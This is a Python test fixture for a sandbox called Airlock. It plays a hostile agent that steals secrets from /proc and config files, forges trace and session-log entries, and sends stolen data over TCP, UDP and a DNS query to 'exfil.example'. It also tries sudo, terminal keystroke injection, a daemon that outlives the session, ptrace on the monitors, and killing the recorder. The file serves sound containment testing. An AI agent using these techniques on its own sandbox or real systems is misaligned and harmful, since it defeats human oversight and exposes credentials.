"""A hostile agent: tries every escape of issue 10 and reports what it got, to the host's
listeners (which must hear nothing) and to files the test reads from outside.

Run by /usr/bin/python3 as the command of `airlock run`; standard library only. Never run it
outside a test: it kills Airlock processes and writes into what it finds.
Usage: hostile_agent.py CONFIG.json (see tests/sandbox/test_hostile.py for the keys).
"""

# ruff: noqa: SIM105, SIM115
from __future__ import annotations

import ctypes
import fcntl
import glob
import json
import os
import signal
import socket
import subprocess
import sys
import termios

_config_file = sys.argv[1]
while not os.path.exists(_config_file):  # written by the test once it knows Airlock's pid
    pass
with open(_config_file) as _fh:
    cfg = json.load(_fh)
loot: list[str] = []
report: dict[str, str] = {}


def grab(path: str) -> None:
    try:
        with open(path, "rb") as fh:
            data = fh.read(65536)
    except OSError as exc:
        report[path] = f"refused {exc.errno}"
        return
    report[path] = f"read {len(data)}"
    loot.append(data.decode("latin-1"))


# 1. the signing key, the job state, other processes' environment and command lines
for path in cfg["secret_files"]:
    grab(path)


def _ppid(pid: str) -> int:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return int(fh.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _targets() -> list[str]:
    """Every visible process; outside a sandbox only Airlock's own tree (never the machine's)."""
    visible = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
    root = cfg["airlock_pid"]
    if root <= 1:
        raise SystemExit("refusing: the test must pass Airlock's own pid")
    if not os.path.exists(f"/proc/{root}"):
        return visible
    tree, changed = {root}, True
    while changed:
        grown = tree | {int(p) for p in visible if _ppid(p) in tree}
        changed, tree = grown != tree, grown
    return [p for p in visible if int(p) in tree and int(p) != os.getpid()]


pids = _targets()
for pid in [str(cfg["airlock_pid"]), *pids]:
    grab(f"/proc/{pid}/environ")
    grab(f"/proc/{pid}/cmdline")
loot.append(json.dumps(dict(os.environ)))

# 2. forge an exec in the trace FIFO, and a line in the session log
for fifo in glob.glob("/tmp/airlock-trace-*/trace"):
    try:
        fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
        os.write(
            fd, b'99999 1700000000.000000 execve("/usr/bin/forged", ["forged-exec"], 0x0) = 0\n'
        )
        os.close(fd)
    except OSError:
        pass
for log in glob.glob(os.path.join(cfg["sessions"], "*", "events.jsonl")):
    try:
        with open(log, "a") as fh:
            fh.write('{"seq": 999999, "type": "forged-line"}\n')
    except OSError:
        pass

# 3. write outside the workspace
for path in cfg["outside_files"]:
    try:
        with open(path, "w") as fh:
            fh.write("escaped")
    except OSError:
        pass

# 4. the held database password: log in to the upstream directly with anything found
dsn_try = cfg.get("upstream")
if dsn_try:
    blob = "\n".join(loot)
    password = cfg["held_password"] if cfg.get("cheat") else None
    for line in blob.replace("\0", "\n").splitlines():
        if line.startswith(cfg["held_var"] + "="):
            password = line.split("=", 1)[1]
    if password:
        env = {"PATH": "/usr/bin:/bin", "PGPASSWORD": password, "PGCONNECT_TIMEOUT": "3"}
        subprocess.run(
            ["psql", "-X", "-h", "127.0.0.1", "-p", str(dsn_try["port"]), "-U", dsn_try["user"],
             "-d", dsn_try["db"], "-c", f"CREATE TABLE {dsn_try['marker_table']} (x int)"],
            env=env, capture_output=True, timeout=20, check=False,
        )  # fmt: skip

# 5. exfiltrate: TCP and UDP to the host's listeners, a DNS-shaped query, the docker socket
payload = ("\n".join(loot)).encode()[:60000] or b"nothing"
for host, port in cfg["tcp"]:
    try:
        with socket.create_connection((host, port), timeout=3) as sock:
            sock.sendall(payload)
    except OSError:
        pass
dns_query = (
    b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05exfil\x07example\x00\x00\x01\x00\x01"
)
for host, port in cfg["udp"]:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(dns_query, (host, port))
            sock.sendto(payload[:1200], (host, port))
    except OSError:
        pass
for path in cfg["docker_sockets"]:
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.settimeout(3)
            sock.connect(path)
            sock.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
    except OSError:
        pass

# 6. sudo, and type into the terminal Airlock reads (the console approver's)
sudo = subprocess.run(["sudo", "-n", "true"], capture_output=True, check=False)
if sudo.returncode == 0:
    with open(os.path.join(cfg["outside_dir"], "sudo-worked"), "w") as fh:
        fh.write("root")
try:
    for byte in b"PWNED\n":
        fcntl.ioctl(0, termios.TIOCSTI, bytes([byte]))
except OSError:
    pass

# 7. a daemon that outlives the session
daemon = (
    "import os, sys, time\n"
    "open(sys.argv[1] + '/daemon-started', 'w').close()\n"
    "deadline = time.time() + 5\n"
    "while time.time() < deadline and not os.path.exists(sys.argv[1] + '/go'):\n"
    "    time.sleep(0.05)\n"
    "open(sys.argv[2], 'w').write('late')\n"
)
subprocess.Popen(
    ["setsid", "/usr/bin/python3", "-c", daemon, cfg["workspace"], cfg["late_marker"], cfg["token"]],
    stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    start_new_session=True,
)  # fmt: skip
while not os.path.exists(os.path.join(cfg["workspace"], "daemon-started")):
    pass
# 8. ptrace whatever is visible: strace, airlock (last: uncontained, stopping the tracer
#    freezes this agent too)
libc = ctypes.CDLL(None, use_errno=True)
for pid in sorted({cfg["airlock_pid"], *map(int, pids)}):
    # Seize, stop, detach: a tracer left stopped would freeze this very agent, which it traces.
    if libc.ptrace(0x4206, pid, None, None) == 0:
        report[f"ptrace {pid}"] = "seized"
        libc.ptrace(0x4207, pid, None, None)  # PTRACE_INTERRUPT, so that it can be detached
        try:
            os.waitpid(pid, 0x40000000)  # __WALL
        except OSError:
            pass
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
open(os.path.join(cfg["workspace"], "ptrace.json"), "w").write(
    json.dumps({k: v for k, v in report.items() if k.startswith("ptrace")})
)

# 9. kill the recorder and the tracer
for pid in sorted({cfg["airlock_pid"], *map(int, pids)}):
    try:
        with open(f"/proc/{pid}/comm") as fh:
            name = fh.read().strip()
    except OSError:
        name = ""
    if pid == cfg["airlock_pid"] or name in ("strace", "airlock"):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
print("hostile agent done")
